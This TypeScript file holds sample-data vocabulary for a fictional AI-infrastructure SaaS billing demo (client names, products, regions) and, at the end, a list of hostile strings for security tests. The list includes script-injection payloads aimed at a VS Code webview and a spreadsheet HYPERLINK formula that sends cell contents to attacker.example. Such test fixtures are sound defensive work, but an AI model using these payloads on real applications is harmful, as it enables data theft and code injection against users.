// Vocabulary for realistic sample data: the customers, products and usage dimensions of a
// fictional AI-infrastructure SaaS company selling prepaid usage commitments.

export const CLIENTS = [
  'Acme Robotics', 'Northwind Traders', 'Globex Corporation', 'Initech', 'Umbrella Health', 'Stark Logistics',
  'Wayne Analytics', 'Hooli', 'Pied Piper', 'Vandelay Industries', 'Soylent Foods', 'Tyrell Systems',
  'Cyberdyne Labs', 'Aperture Science', 'Massive Dynamic', 'Oscorp Biotech', 'Wonka Confectionery', 'Gringotts Bank',
  'Dunder Mifflin Paper', 'Prestige Worldwide', 'Bluth Homes', 'Sterling Cooper Media', 'Monsters Energy Grid',
  'Black Mesa Research', 'Blue Sun Retail', 'Weyland Mining', 'Nakatomi Trading', 'Ollivanders Studio',
  'Duff Beverages', 'Krusty Foods', 'Paper Street Soap', 'Rekall Travel', 'Yoyodyne Propulsion', 'Zorg Industries',
  'Genco Olive Oil', 'Ghostbusters Facilities', 'Hanso Foundation', 'InGen Parks', 'Kwik-E-Mart Holdings',
  'Lacuna Memory', 'MomCorp', 'Nuka Cola Bottling', 'Octan Energy', 'Planet Express', 'Quartermaine Pharma',
  'Rich Industries', 'Sirius Cybernetics', 'Three Rock Capital', 'Virtucon', 'Wolfram & Hart Legal',
] as const;

export const DEAL_KINDS = [
  'Enterprise Platform', 'Inference Commit', 'Annual Usage Plan', 'Growth Plan', 'Expansion', 'Renewal',
  'Pilot', 'Data Pipeline Add-on', 'Premium Support', 'Multi-year Commit', 'Startup Program', 'Agent Platform',
] as const;

export const ENTITIES = [
  { name: 'Campfire Demo Inc.', currency: 'USD' },
  { name: 'Campfire Demo GmbH', currency: 'EUR' },
  { name: 'Campfire Demo Ltd', currency: 'GBP' },
] as const;

export const DEPARTMENTS = ['Sales', 'Enterprise Sales', 'Self-serve', 'Partnerships'] as const;

export const CURRENCIES = ['USD', 'USD', 'USD', 'USD', 'USD', 'USD', 'EUR', 'EUR', 'GBP', 'CAD', 'AUD', 'JPY'] as const;

export const CONSULTANTS = ['Priya Raman', 'Marcus Webb', 'Elena Sokolova', 'Tomás Herrera', 'Aiko Tanaka', null] as const;

export const PRODUCTS = [
  { name: 'Inference API', code: 'INF-API', unit: 'tokens', groups: ['Input tokens', 'Output tokens', 'Cached tokens'] },
  { name: 'Fine-tuning', code: 'FT', unit: 'training hours', groups: ['Training compute', 'Hosting'] },
  { name: 'Vector Search', code: 'VEC', unit: 'queries', groups: ['Queries', 'Storage'] },
  { name: 'Agent Runtime', code: 'AGT', unit: 'runs', groups: ['Agent runs', 'Tool calls'] },
  { name: 'Data Connectors', code: 'CONN', unit: 'syncs', groups: ['Syncs'] },
  { name: 'Observability', code: 'OBS', unit: 'spans', groups: ['Ingested spans', 'Retention'] },
  { name: 'Batch Processing', code: 'BATCH', unit: 'jobs', groups: ['Batch jobs'] },
  { name: 'Premium Support', code: 'SUP', unit: 'seats', groups: ['Support seats'] },
] as const;

export const TIER_NAMES = ['Base', 'Volume', 'Scale', 'Enterprise'] as const;

export const FEATURES = ['chat', 'embeddings', 'vision', 'speech', 'batch', 'realtime', 'assistants'] as const;
export const MODELS = ['atlas-large', 'atlas-mini', 'atlas-vision', 'ember-2', 'ember-2-turbo'] as const;
export const REGIONS = ['us-east-1', 'us-west-2', 'eu-west-1', 'ap-northeast-1'] as const;
export const TEAMS = ['platform', 'search', 'support-bot', 'growth', 'data-science', 'mobile', 'risk'] as const;

export const INTEGRATIONS = ['Salesforce CPQ', 'HubSpot', 'Stripe Billing'] as const;

/** Payloads for security tests (hostile mode only): markup, script breakouts and CSV formulas. */
export const HOSTILE_STRINGS = [
  '<img src=x onerror="acquireVsCodeApi().postMessage({type:\'pwned\'})">',
  '</script><script>acquireVsCodeApi().postMessage({type:"pwned"})</script>',
  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\tleading tab',
  '\rleading carriage return',
  '"quoted", with comma\nand newline',
] as const;
